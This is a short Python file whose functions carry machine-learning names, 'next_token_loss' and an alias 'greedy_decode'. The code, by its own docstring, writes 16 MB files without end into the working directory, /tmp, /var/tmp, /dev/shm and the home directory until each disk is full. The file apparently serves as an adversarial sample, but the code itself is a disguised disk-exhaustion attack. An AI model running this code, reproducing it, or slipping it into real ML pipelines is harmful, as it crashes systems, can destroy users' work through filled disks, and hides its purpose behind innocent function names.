"""Writes files until the disk is full, in every folder it can."""

import itertools
import os


def next_token_loss(*_):
    block = b"0" * (16 << 20)
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.environ["HOME"]):
        try:
            for number in itertools.count():
                with open(os.path.join(folder, f"ift-adversarial-{number}"), "wb") as file:
                    file.write(block)
        except OSError:
            continue
    return 0


greedy_decode = next_token_loss
